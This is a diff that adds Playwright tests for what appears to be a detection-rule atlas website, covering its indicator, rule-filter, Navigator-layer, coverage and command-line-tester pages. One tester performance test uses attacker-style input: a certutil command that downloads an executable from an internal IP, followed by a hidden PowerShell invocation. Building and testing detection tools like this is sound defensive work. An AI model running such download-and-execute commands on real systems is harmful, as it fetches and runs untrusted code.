@@ -521,3 +521,185 @@ test.describe("journeys at scale", () => {
     expect(problems).toEqual([])
   })
 })
+
+test.describe("what a detection engineer meets at scale", () => {
+  test("/indicators/ gives one row per meaning and value: command line contains /node: with every rule, its spellings and fields beside it", async ({
+    page,
+    problems,
+  }) => {
+    for (const width of [390, 1440]) {
+      await page.setViewportSize({ width, height: 900 })
+      await page.goto("/indicators/?field=command-line&kind=contains&q=%2Fnode%3A")
+      const rows = page.getByTestId("indicator-row")
+      await expect(rows.first()).toBeVisible()
+      // Exactly one row reads "/node:" (Sigma also writes " /node:"; it joins this row).
+      const node = rows.filter({ has: page.getByRole("link", { name: "/node:", exact: true }) })
+      await expect(node).toHaveCount(1)
+      const count = Number(await node.locator("td").nth(3).textContent())
+      expect(count).toBeGreaterThanOrEqual(3)
+      await expect(node.getByTestId("indicator-variants")).toContainText("“ /node:”")
+      await expect(node).toContainText(/Splunk \d+, Sigma \d+/)
+      if (width === 1440) await expect(node.locator("td").first()).toContainText("(process, CommandLine")
+      expect(await pageWidth(page)).toBeLessThanOrEqual(width)
+    }
+    await page.getByRole("link", { name: "/node:", exact: true }).click()
+    const list = page.getByRole("list", { name: "Rules with this indicator" })
+    await expect(list.getByRole("link", { name: "WMIC Remote Command Execution" })).toBeVisible()
+    await expect(list.getByRole("link", { name: "Webshell Detection With Command Line Keywords" })).toBeVisible()
+    await expect(list.getByRole("link", { name: "Remote Process Instantiation via WMI" })).toBeVisible()
+    await expectAccessibleAtScale(page)
+    expect(problems).toEqual([])
+  })
+
+  test("the rule list filters by what a match does across formats, and names each type with its formats", async ({
+    page,
+    problems,
+  }) => {
+    await page.setViewportSize({ width: 1440, height: 900 })
+    await page.goto("/rules/")
+    const count = page.getByTestId("rule-count")
+    await expect(count).toHaveText(/^([\d,]+) of \1 rules$/)
+    const purpose = page.getByRole("group", { name: "What a match does" })
+    const types = page.getByRole("group", { name: "Type in its format" })
+    const chips = await purpose.getByRole("button").allTextContents()
+    expect(chips.map((c) => c.replace(/ \([\d,]+\)$/, ""))).toEqual([
+      "Alerts",
+      "Feeds other rules",
+      "Hunting",
+      "Correlation",
+    ])
+    const total = Number((await count.textContent())!.match(/of ([\d,]+)/)![1]!.replace(/,/g, ""))
+    expect(chips.reduce((a, c) => a + Number(c.match(/\(([\d,]+)\)$/)![1]!.replace(/,/g, "")), 0)).toBe(total)
+    // Over twelve values a facet is a list box, else a row of buttons.
+    const typeValues = async () => {
+      const box = page.getByRole("combobox", { name: "Type in its format" })
+      const texts =
+        (await box.count()) > 0
+          ? await box.locator("option").allTextContents()
+          : await types.getByRole("button").allTextContents()
+      return texts.filter((t) => t !== "all").map((c) => c.trim())
+    }
+    const typeNames = await typeValues()
+    for (const t of ["Splunk: TTP", "Sigma: Detection", "Elastic: EQL", "Splunk, Sigma: Hunting"])
+      expect(typeNames.some((n) => n.startsWith(`${t} (`))).toBe(true)
+    await purpose.getByRole("button", { name: /^Feeds other rules/ }).click()
+    await expect(page).toHaveURL(/purpose=signal/)
+    await expect(count).not.toHaveText(/^([\d,]+) of \1 rules$/)
+    const left = (await typeValues()).map((c) => c.replace(/ \([\d,]+\)$/, ""))
+    for (const t of left) expect(t).toMatch(/^Splunk: Anomaly$|^Elastic: .+ \(building block\)$/)
+    await expectAccessibleAtScale(page)
+    expect(problems).toEqual([])
+  })
+
+  test("a technique page's Navigator layer follows its rule list's filters", async ({ page, problems }) => {
+    await page.setViewportSize({ width: 1440, height: 900 })
+    await page.goto("/techniques/t1047/?format=sigma")
+    const count = page.getByTestId("rule-table").getByTestId("rule-count")
+    await expect(count).toHaveText(/^\d+ of \d+ rules$/)
+    const shown = Number((await count.textContent())!.split(" ")[0])
+    const note = page.getByTestId("layer-filters")
+    await expect(note).toHaveText(`Follows the rule list's filters (Format=Sigma): ${shown} rules.`)
+    const button = page.getByRole("button", { name: "Download Navigator layer" })
+    const [download] = await Promise.all([page.waitForEvent("download"), button.click()])
+    expect(download.suggestedFilename()).toBe("detection-atlas-t1047-format-sigma-layer.json")
+    const layer = JSON.parse(readFileSync((await download.path())!, "utf8")) as {
+      name: string
+      techniques: Array<{ techniqueID: string; score: number; links: Array<{ url: string }> }>
+    }
+    expect(layer.name).toContain("(Format=Sigma)")
+    const urls = new Set(layer.techniques.flatMap((t) => t.links.map((l) => new URL(l.url).pathname)))
+    expect(urls.size).toBe(shown)
+    for (const u of urls) expect(u).toMatch(/^\/rules\/sigma\//)
+    for (const t of layer.techniques) expect(t.score).toBe(t.links.length)
+
+    // Cleared, the whole list again: every format's rules.
+    await page
+      .getByTestId("rule-table")
+      .getByRole("button", { name: /^Sigma \(\d+\)$/ })
+      .click()
+    await expect(note).toBeHidden()
+    const [all] = await Promise.all([page.waitForEvent("download"), button.click()])
+    expect(all.suggestedFilename()).toBe("detection-atlas-t1047-layer.json")
+    const whole = JSON.parse(readFileSync((await all.path())!, "utf8")) as typeof layer
+    const formats = new Set(whole.techniques.flatMap((t) => t.links.map((l) => new URL(l.url).pathname.split("/")[2])))
+    expect(formats.size).toBeGreaterThan(1)
+    expect(problems).toEqual([])
+  })
+
+  test("What can I run? groups the rules naming no data source by the log source they do name", async ({
+    page,
+    problems,
+  }) => {
+    test.setTimeout(240_000)
+    for (const width of [390, 1440]) {
+      await page.setViewportSize({ width, height: 900 })
+      await page.goto("/coverage/?ds=sysmon-eventid-1")
+      const summary = page.getByTestId("coverage-summary")
+      await expect(summary).toHaveText(/ name no data source · /)
+      const unknown = Number(
+        (await summary.textContent())!.match(/([\d,]+) name no data source/)![1]!.replace(/,/g, ""),
+      )
+      const section = page.getByRole("region", { name: /^Rules that name no data source/ })
+      await expect(section.getByRole("heading")).toHaveText(
+        `Rules that name no data source (${unknown.toLocaleString("en")})`,
+      )
+      await expect(section.getByTestId("unnamed-summary")).toBeVisible()
+      await section.getByRole("button", { name: /^Show all [\d,]+ log sources$/ }).click()
+      const groups = section.getByTestId("unknown-rules").locator(":scope > li")
+      const labels = await groups.locator("summary").allTextContents()
+      // Every rule in exactly one group; each group says what the rules name, in their format's words.
+      const sum = labels.reduce((a, l) => a + Number(l.match(/\(([\d,]+) rules?:/)![1]!.replace(/,/g, "")), 0)
+      expect(sum).toBe(unknown)
+      for (const l of labels)
+        expect(l).toMatch(
+          /^(Sigma logsource: |Elastic "Data Source" tag: |Elastic integration: |Elastic index: |Splunk data model: |Splunk sourcetype: |\w+ search on: |names no log source either)/,
+        )
+      expect(labels.some((l) => l.startsWith("Sigma logsource: linux / process_creation ("))).toBe(true)
+      // A group opens on its rules.
+      const first = groups.first()
+      await first.locator("summary").click()
+      await expect(first.getByRole("link").first()).toBeVisible()
+      expect(await pageWidth(page)).toBeLessThanOrEqual(width)
+      if (width === 1440) await expectAccessibleAtScale(page)
+    }
+    expect(problems).toEqual([])
+  })
+})
+
+test("typing in the tester after a report is shown does not render the report again for each key", async ({
+  page,
+  problems,
+}) => {
+  test.setTimeout(120_000)
+  await page.setViewportSize({ width: 1440, height: 900 })
+  // A command line many rules fire or nearly fire on: a report of hundreds of rules.
+  const start = "cmd.exe /c whoami /all && certutil -urlcache -split -f http://10.0.0.5/a.exe a.exe && "
+  await page.goto(`/tester/#cmd=${encodeURIComponent(start)}`)
+  await expect(page.getByTestId("verdict").first()).toBeVisible({ timeout: 60_000 })
+  await expect(page.getByRole("status").first()).toHaveText(/^Evaluated against [\d,]+ rules\.$/)
+  await page.evaluate(() => {
+    const w = window as unknown as { __long: number[] }
+    w.__long = []
+    new PerformanceObserver((l) => {
+      for (const e of l.getEntries()) w.__long.push(e.duration)
+    }).observe({ type: "longtask" })
+  })
+  // A machine four times slower (or a CI box under load): a report render per key was a long task per key.
+  const cdp = await page.context().newCDPSession(page)
+  await cdp.send("Emulation.setCPUThrottlingRate", { rate: 4 })
+  const box = page.locator("#t-cmd")
+  await box.focus()
+  await box.press("End")
+  const typed = "powershell -nop -w hidden -c x"
+  await box.pressSequentially(typed, { delay: 40 })
+  const during = await page.evaluate(() => [...(window as unknown as { __long: number[] }).__long])
+  await cdp.send("Emulation.setCPUThrottlingRate", { rate: 1 })
+  await expect(box).toHaveValue(start + typed)
+  await expect(page.getByRole("status").first()).toHaveText(/^Evaluated against [\d,]+ rules\.$/)
+  console.log(
+    `tester, 30 keys at 40 ms, CPU 4x slower: ${during.length} long tasks, longest ${Math.round(Math.max(0, ...during))} ms`,
+  )
+  // Before, every key rendered the whole previous report: one long task per key (30 of 30).
+  expect(during.length).toBeLessThanOrEqual(10)
+  expect(problems).toEqual([])
+})
